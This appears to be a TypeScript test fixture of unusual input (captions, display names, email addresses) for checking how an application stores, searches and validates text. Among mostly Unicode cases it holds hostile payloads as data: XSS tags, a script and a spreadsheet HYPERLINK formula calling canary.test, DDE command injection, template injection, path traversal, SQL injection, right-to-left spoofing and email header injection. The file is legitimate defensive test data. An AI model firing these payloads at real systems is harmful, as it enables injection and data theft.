/**
 * Strange but real input, with what a program should make of it: one list for the sandbox's fault `hostile-texts` and for
 * the tests of every door. Add what users report here.
 */

export interface StrangeCaption {
  text: string;
  /** As stored, where the text differs: no database stores NUL or half of a pair. */
  stored?: string;
  hashtags?: readonly string[];
  mentions?: readonly string[];
  /** Searches that find it. */
  queries?: readonly string[];
}

export const strangeCaptions: readonly StrangeCaption[] = [
  // Markup, formulas and commands.
  {
    text: `<img src=x onerror="alert(1)"><svg/onload=alert(2)>{{7*7}}</script><script src=//canary.test/a.js></script>`,
    queries: ['</script>'],
  },
  { text: `=HYPERLINK("https://canary.test/?"&A1,"win")`, queries: ['=hyperlink('] },
  { text: '+cmd|" /C calc"!A0' },
  { text: '@SUM(1+1)*cmd', mentions: ['@SUM'] },
  { text: '-2+3\tand a tab', queries: ['-2+3'] },
  { text: '＝1+1 in full width', queries: ['=1+1 in', '＝1+1'] },
  { text: `"quoted", 'single', two\nlines\r\nand \`three\``, queries: [`'single'`] },
  {
    text: `%s %n \${7*7} {{constructor.constructor('alert(3)')()}} ../../etc/passwd 100% C:\\new_file'; DROP TABLE media`,
    queries: ['100%', 'c:\\new_', `'; drop table`],
  },
  // Characters that are not seen, or change others.
  { text: 'safe \u202Egpj.exe\u202C and \u2066isolated\u2069', queries: ['\u202Egpj'] },
  { text: 'in\u200Bvis\u200Di\uFEFFble' },
  {
    text: 'a NUL \0, and half of a pair \ud83d',
    stored: 'a NUL , and half of a pair \ufffd',
    queries: ['a nul , and', '\ufffd'],
  },
  { text: 'bell \u0007, escape \u001b[31m and delete \u007f', queries: ['[31m'] },
  { text: 'Dots as blank lines\n.\n.\nand Braille\n\u2800\n\u2800\nbelow', queries: ['braille'] },
  // Letters and scripts.
  {
    text: 'Cafe\u0301 decomposed #cafe\u0301',
    hashtags: ['#caf\u00e9'],
    queries: ['caf\u00e9', 'CAFE\u0301', '#caf\u00e9'],
  },
  {
    text: 'Caf\u00e9 composed #CAF\u00c9',
    hashtags: ['#CAF\u00c9'],
    queries: ['caf\u00e9 composed', 'cafe\u0301 composed'],
  },
  { text: '𝓗𝓮𝓵𝓵𝓸 𝗯𝗼𝗹𝗱 Ｗｉｄｅ', queries: ['hello', 'bold wide', '𝓗𝓮𝓵𝓵𝓸'] },
  { text: 'أهلا بكم #قهوة_عربية و#شاي', hashtags: ['#قهوة_عربية'], queries: ['بكم'] },
  { text: 'می\u200cخواهم #می\u200cخواهم', hashtags: ['#می\u200cخواهم'], queries: ['خواهم'] },
  { text: 'नमस्ते #हिन्दी#தமிழ்', hashtags: ['#हिन्दी', '#தமிழ்'], queries: ['नमस्ते'] },
  { text: 'CafÃ© aus einem alten Export â€“ mojibake', queries: ['cafã©'] },
  {
    text: '👩‍👩‍👧‍👦🏳️‍🌈🫶🏽 Z̸̡̧̛͚̱̭̺͖͇̈́̐a̷͗lgo ❤️#love 🎉@anna.b',
    hashtags: ['#love'],
    mentions: ['@anna.b'],
    queries: ['🏳️‍🌈'],
  },
  // Hashtags and mentions.
  {
    text: 'No spaces #alpha1#beta2#東京#カフェ',
    hashtags: ['#alpha1', '#beta2', '#東京', '#カフェ'],
    queries: ['#beta2#東'],
  },
  {
    text: '##double ＃全角＃記号 #2026 #2026#goals #100days #_a_ #️⃣ #1️⃣ &#39;x mail a#b #Kaffe #kaffe',
    hashtags: ['#double', '#全角', '#記号', '#goals', '#100days', '#_a_', '#Kaffe'],
  },
  {
    text: 'With @anna.b_1@Bo@bo. And @ANNA.B_1, mail x@example.com',
    mentions: ['@anna.b_1', '@Bo'],
  },
  { text: 'x'.repeat(2_200), queries: ['x'.repeat(200)] },
];

/** Names of people and accounts, with their length as people count it. */
export const strangeNames: readonly { text: string; length: number }[] = [
  { text: `<b onmouseover="alert(4)">=1+1</b>\u202Egpj.\u202C`, length: 40 },
  { text: '👨‍👩‍👧‍👦 Familie Müller', length: 16 },
  { text: 'Ame\u0301lie Zoe\u0308', length: 10 },
  { text: 'やまだ　太郎', length: 6 },
  { text: 'محمد بن سلمان', length: 13 },
  { text: 'स्वाति', length: 2 },
  { text: '🇩🇪🇫🇷', length: 2 },
  { text: `O'Brien & Söhne "GmbH"`, length: 22 },
];

export const strangeAddresses = {
  /** Each with the form in which it is compared and sent to. */
  accepted: [
    ['anna@example.com', 'anna@example.com'],
    ['Anna.B@EXAMPLE.com', 'Anna.B@example.com'],
    ['user+tag@example.com', 'user+tag@example.com'],
    [`o'brien@example.com`, `o'brien@example.com`],
    ['user@bücher.example', 'user@xn--bcher-kva.example'],
    ['user@BÜCHER.example', 'user@xn--bcher-kva.example'],
    ['user@bu\u0308cher.example', 'user@xn--bcher-kva.example'],
    ['user@xn--bcher-kva.example', 'user@xn--bcher-kva.example'],
    ['dörte@example.com', 'dörte@example.com'],
    ['do\u0308rte@bücher.example', 'dörte@xn--bcher-kva.example'],
    ['用户@例え.テスト', '用户@xn--r8jz45g.xn--zckzah'],
    ['a&b@example.com', 'a&b@example.com'],
    ['user=ext@example.com', 'user=ext@example.com'],
    ['first/last@example.com', 'first/last@example.com'],
    [`!#$%*-^_\`{|}~?@example.com`, `!#$%*-^_\`{|}~?@example.com`],
  ],
  refused: [
    '',
    'anna',
    'anna@',
    '@example.com',
    'anna@example',
    'a b@example.com',
    'anna@exam ple.com',
    'anna@example.com, bo@example.com',
    'anna@example.com;bo@example.com',
    'Anna <anna@example.com>',
    '"anna b"@example.com',
    'anna@@example.com',
    'anna@bo@example.com',
    'anna@example.com\r\nBcc: bo@example.com',
    'anna\u0000@example.com',
    'anna\u202e@example.com',
    'anna\u200b@example.com',
    'anna\u00a0b@example.com',
    'anna\ud83d@example.com',
    'a(b)@example.com',
    'anna@[127.0.0.1]',
    'anna@-example.com',
    'anna@example..com',
    '.anna@example.com',
    'anna.@example.com',
    'an..na@example.com',
    `${'a'.repeat(65)}@example.com`,
    `${'ä'.repeat(33)}@example.com`,
    `anna@${'a'.repeat(64)}.com`,
    `anna@${'a.'.repeat(125)}com`,
    'anna@exa_mple.com',
    'anna@example.com/x',
    'anna@example.com?x=1',
    'anna@example.com#x',
    'anna@exam%70le.com',
  ],
} as const satisfies { accepted: readonly (readonly [string, string])[]; refused: readonly string[] };
